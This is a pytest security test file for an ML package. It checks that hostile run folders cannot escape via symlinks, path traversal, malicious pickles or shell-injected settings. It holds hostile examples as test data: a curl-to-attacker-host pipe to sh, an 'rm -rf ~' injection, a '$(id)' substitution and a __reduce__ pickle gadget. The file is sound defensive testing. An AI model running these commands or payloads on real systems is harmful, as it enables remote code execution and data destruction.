"""A downloaded run or study folder cannot make the package write, truncate, delete or read outside it, nor
reach the network: links in a run folder are refused, names read from a run's files must be plain names,
a config cannot ask timm for weights, slugs read back from settings.json name files inside the folder,
and the leaderboard removes only its own tables. Each test plants what a hostile folder would hold and
checks the victim file is untouched."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from typer.testing import CliRunner

from kpca_attention.checks import check_slug
from kpca_attention.cli import app
from kpca_attention.report.study import read_settings
from kpca_attention.studies.leaderboard import write_leaderboard
from kpca_attention.train import CheckpointError, TrainConfig
from kpca_attention.train.checkpoint import resolve_checkpoint, verify_checkpoint
from kpca_attention.train.logger import MetricLogger
from kpca_attention.train.rundir import RunDir

ROOT = Path(__file__).resolve().parents[1]


def _victim(tmp_path: Path, name: str = "victim.txt") -> Path:
    v = tmp_path / "elsewhere" / name
    v.parent.mkdir(parents=True, exist_ok=True)
    v.write_text("precious")
    return v


@pytest.mark.parametrize("entry", [".lock", "checkpoints", "epochs.csv", "tb"])
def test_a_link_in_a_run_folder_is_refused_before_anything_is_written(tmp_path, entry) -> None:
    victim = _victim(tmp_path)
    run = tmp_path / "run"
    run.mkdir()
    target = victim if entry in (".lock", "epochs.csv") else victim.parent
    (run / entry).symlink_to(target)
    with pytest.raises(ValueError, match="symbolic link"), RunDir(run).lock():
        pass
    assert victim.read_text() == "precious" and sorted(os.listdir(victim.parent)) == ["victim.txt"]


def test_a_link_inside_a_checkpoint_is_refused(tmp_path) -> None:
    victim = _victim(tmp_path)
    ckpt = tmp_path / "run" / "checkpoints" / "e0001-s00000002"
    ckpt.mkdir(parents=True)
    (ckpt / "model.safetensors").symlink_to(victim)
    with pytest.raises(ValueError, match="symbolic link"), RunDir(tmp_path / "run").lock():
        pass


def test_the_run_folder_itself_may_be_a_link(tmp_path) -> None:
    real = tmp_path / "disk" / "run"
    real.mkdir(parents=True)
    (tmp_path / "run").symlink_to(real)
    with RunDir(tmp_path / "run").lock():
        pass
    assert (real / ".lock").is_file()


def test_the_csv_logs_replace_a_link_instead_of_writing_through_it(tmp_path) -> None:
    victim = _victim(tmp_path)
    run = tmp_path / "run"
    run.mkdir()
    (run / "epochs.csv").symlink_to(victim)
    logger = MetricLogger(run, resume_epoch=1, resume_step=0, tensorboard=False)
    logger.epoch_rows = [{"epoch": 0, "step": 1}]
    logger.end_epoch({"loss": 1.0})
    assert victim.read_text() == "precious"
    assert not (run / "epochs.csv").is_symlink() and "loss" in (run / "epochs.csv").read_text()


@pytest.mark.parametrize("name", ["../../elsewhere", "/tmp", "..", "", 3])
def test_latest_json_must_name_a_checkpoint_inside_the_run(tmp_path, name) -> None:
    (tmp_path / "elsewhere").mkdir()
    ckpts = tmp_path / "run" / "checkpoints"
    ckpts.mkdir(parents=True)
    (ckpts / "latest.json").write_text(json.dumps({"name": name, "finished": True}))
    with pytest.raises(CheckpointError, match="plain file or folder name"):
        resolve_checkpoint(tmp_path / "run")
    with pytest.raises(CheckpointError, match="plain file or folder name"):
        RunDir(tmp_path / "run").checkpoint()


@pytest.mark.parametrize("name", ["../../../../../../../../dev/zero", "/dev/zero", "sub/file"])
def test_complete_must_list_plain_files_of_the_checkpoint(tmp_path, name) -> None:
    """One line added to COMPLETE used to make the loader hash /dev/zero forever (size 0 matched)."""
    ckpt = tmp_path / "ckpt"
    ckpt.mkdir()
    (ckpt / "COMPLETE").write_text(json.dumps({"files": {name: {"size": 0, "sha256": "0" * 64}}}))
    with pytest.raises(CheckpointError, match="plain file or folder name"):
        verify_checkpoint(ckpt)


def test_complete_listing_a_folder_is_refused(tmp_path) -> None:
    ckpt = tmp_path / "ckpt"
    (ckpt / "sub").mkdir(parents=True)
    (ckpt / "COMPLETE").write_text(json.dumps({"files": {"sub": {"size": 4096, "sha256": "0" * 64}}}))
    with pytest.raises(CheckpointError, match="not a regular file"):
        verify_checkpoint(ckpt)


@pytest.mark.parametrize("key", ["pretrained", "pretrained_cfg_overlay", "checkpoint_path", "cache_dir"])
def test_a_config_cannot_ask_timm_for_weights(key) -> None:
    with pytest.raises(ValueError, match=f"model_kwargs may not set {key}"):
        TrainConfig(model="vit_tiny_patch16_224", model_kwargs={key: True})
    TrainConfig(model="vit_tiny_patch16_224", model_kwargs={"depth": 2})  # ordinary keywords stay


@pytest.mark.parametrize("slug", ["d/photo", "../x", "..", ".", "", "a\\b", None, 3])
def test_slugs_read_back_from_settings_must_name_files_inside_the_folder(tmp_path, slug) -> None:
    with pytest.raises(ValueError, match="letters, digits"):
        check_slug(slug, "variant slug")
    (tmp_path / "settings.json").write_text(json.dumps({"variants": [{"slug": "ok"}, {"slug": slug}]}))
    with pytest.raises(ValueError, match="variant slug"):
        read_settings(tmp_path)
    res = CliRunner().invoke(app, ["report", str(tmp_path)])
    assert res.exit_code == 2 and "variant slug" in res.output and "Traceback" not in res.output


def test_report_tells_a_corrupt_settings_file_from_a_missing_one(tmp_path) -> None:
    """A settings.json cut short or not JSON was reported as "missing (run the study first)"."""
    with pytest.raises(FileNotFoundError, match="is missing"):
        read_settings(tmp_path)
    for text in ('{"variants": [', "[1, 2]"):
        (tmp_path / "settings.json").write_text(text)
        with pytest.raises(ValueError, match="is not a study's settings"):
            read_settings(tmp_path)


def test_check_slug_keeps_every_registered_studys_slugs() -> None:
    from kpca_attention.studies import STUDIES, get_study

    for name in STUDIES:
        for v in get_study(name).variants:
            assert check_slug(v.slug, "slug") == v.slug


def test_the_leaderboard_removes_only_its_own_stale_tables(tmp_path) -> None:
    out = tmp_path / "board"
    mine = out / "old" / "Linf" / "8_255.json"
    mine.parent.mkdir(parents=True)
    mine.write_text(json.dumps({k: [] for k in ("dataset", "threat_model", "eps", "protocol", "evaluation",
                                                "attack_settings", "rows")}))
    other = out / "notes.json"
    other.write_text("{}")
    (tmp_path / "results").mkdir()
    write_leaderboard(tmp_path / "results", out, tmp_path / "board.md")
    assert not mine.exists() and other.read_text() == "{}"


def test_the_leaderboard_refuses_a_linked_output_folder(tmp_path) -> None:
    victim = _victim(tmp_path, "a.json")
    (tmp_path / "results").mkdir()
    (tmp_path / "board").symlink_to(victim.parent)
    with pytest.raises(ValueError, match="symbolic link"):
        write_leaderboard(tmp_path / "results", tmp_path / "board", tmp_path / "board.md")
    assert victim.read_text() == "precious"


def test_results_verify_refuses_a_file_whose_seal_was_removed(tmp_path) -> None:
    """Removing ``"sealed"`` and an item's hash made a hand edit verify; now the file is named."""
    src = ROOT / "results" / "elliptical-adaptive" / "results"
    folder = tmp_path / "study"
    shutil.copytree(src, folder / "results")
    f = sorted((folder / "results").glob("*.json"))[0]
    data = json.loads(f.read_text())
    data.pop("sealed")
    item = next(iter(data["items"].values()))
    item.pop("sha256")
    f.write_text(json.dumps(data))
    res = CliRunner().invoke(app, ["results", "verify", str(folder)])  # it still lists its items: sealed
    assert res.exit_code == 2 and "has no hash in a sealed file" in res.output and f.name in res.output
    data.pop("sealed_items")  # the list removed too: a legacy file, named as not sealed
    f.write_text(json.dumps(data))
    res = CliRunner().invoke(app, ["results", "verify", str(folder)])
    assert res.exit_code == 2 and "not sealed" in res.output and f.name in res.output
    res = CliRunner().invoke(app, ["results", "verify", str(folder), "--allow-unsealed"])
    assert res.exit_code == 0 and "1 unsealed" in res.output, res.output


@pytest.mark.parametrize("damage", ["", "{", "[1, 2]", '{"bits": {}}'])
def test_results_verify_refuses_a_result_file_emptied_or_cut_short(tmp_path, damage) -> None:
    """A file emptied or cut short before its "items" was skipped and the rest reported as verified."""
    folder = tmp_path / "study"
    shutil.copytree(ROOT / "results" / "elliptical-adaptive" / "results", folder / "results")
    f = sorted((folder / "results").glob("*.json"))[-1]
    f.write_text(damage)
    res = CliRunner().invoke(app, ["results", "verify", str(folder)])
    assert res.exit_code == 2 and f.name in res.output, res.output
    assert "not a readable result file" in res.output, res.output


def test_results_verify_refuses_a_result_file_emptied_of_its_items(tmp_path) -> None:
    """{"items": {}} was taken for a new (sealed) file with nothing to check: "every item verified"."""
    folder = tmp_path / "study"
    shutil.copytree(ROOT / "results" / "elliptical-adaptive" / "results", folder / "results")
    f = sorted((folder / "results").glob("*.json"))[0]
    f.write_text(json.dumps({"items": {}}))
    res = CliRunner().invoke(app, ["results", "verify", str(folder)])
    assert res.exit_code == 2 and f.name in res.output and "holds no items" in res.output, res.output


def test_a_pickled_hugging_face_weights_file_is_refused_in_one_line(tmp_path) -> None:
    from kpca_attention.train.resolve import minilm_path

    folder = tmp_path / "hf"
    shutil.copytree(minilm_path(), folder, ignore=shutil.ignore_patterns("model.safetensors"))
    marker = tmp_path / "MARKER"

    class Evil:
        def __reduce__(self):
            return (Path.write_text, (marker, "ran"))

    torch.save({"weight": Evil()}, folder / "pytorch_model.bin", _use_new_zipfile_serialization=True,
               pickle_module=pickle)
    texts = tmp_path / "texts.txt"
    texts.write_text("In the beginning God created the heaven and the earth.\n")
    res = subprocess.run([sys.executable, "-m", "kpca_attention.cli", "analyze", str(folder), "--texts",
                          str(texts), "--json", str(tmp_path / "a.json"), "--out", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=300, cwd=tmp_path,
                         env={**os.environ, "OMP_NUM_THREADS": "1"})
    assert not marker.exists(), "the pickle ran"
    assert res.returncode == 2, res.stdout + res.stderr
    assert "refused" in res.stderr and "Traceback" not in res.stderr, res.stderr


@pytest.mark.parametrize("command", ["curl https://attacker.invalid/x.sh | sh",
                                     "kpca-attention study zoo; rm -rf ~", "kpca-attention study $(id)",
                                     ["kpca-attention"]])
def test_a_report_never_shows_shell_code_from_settings(command) -> None:
    from kpca_attention.report.study import regenerate_lines

    text = "\n".join(regenerate_lines({"command": command}, "out"))
    assert "not shown" in text and "attacker" not in text and "rm -rf" not in text and "$(" not in text


def test_every_committed_command_is_still_shown() -> None:
    from kpca_attention.report.study import regenerate_lines

    for settings in sorted((ROOT / "results").glob("*/settings.json")):
        data = json.loads(settings.read_text())
        if data.get("command"):
            assert f"`{data['command']}`" in "\n".join(regenerate_lines(data, "out")), settings


@pytest.mark.parametrize(("a", "b", "says"), [
    ("symvit12-s0.json", "rpc12_official-s0.json", "model 'rpc_symvit_mini_patch4_28'"),  # another variant
    ("symvit12-s0.json", "symvit12-s1.json", "seed 1 (settings: 0)"),  # the same variant, another seed
])
def test_swapped_result_files_are_refused(tmp_path, a, b, says) -> None:
    """Two result files swapped (or renamed) passed every hash check and were reported under each other's
    names; each file's run item records what it was trained with, which the report now compares with
    settings.json."""
    study = tmp_path / "rpc-depth12"
    shutil.copytree(ROOT / "results" / "rpc-depth12", study)
    res = study / "results"
    (res / a).rename(res / "tmp.json")
    (res / b).rename(res / a)
    (res / "tmp.json").rename(res / b)
    for cmd in (["report", str(study)], ["results", "verify", str(study)]):
        out = CliRunner().invoke(app, cmd)
        assert out.exit_code == 2 and "swapped or renamed" in out.output and says in out.output, out.output
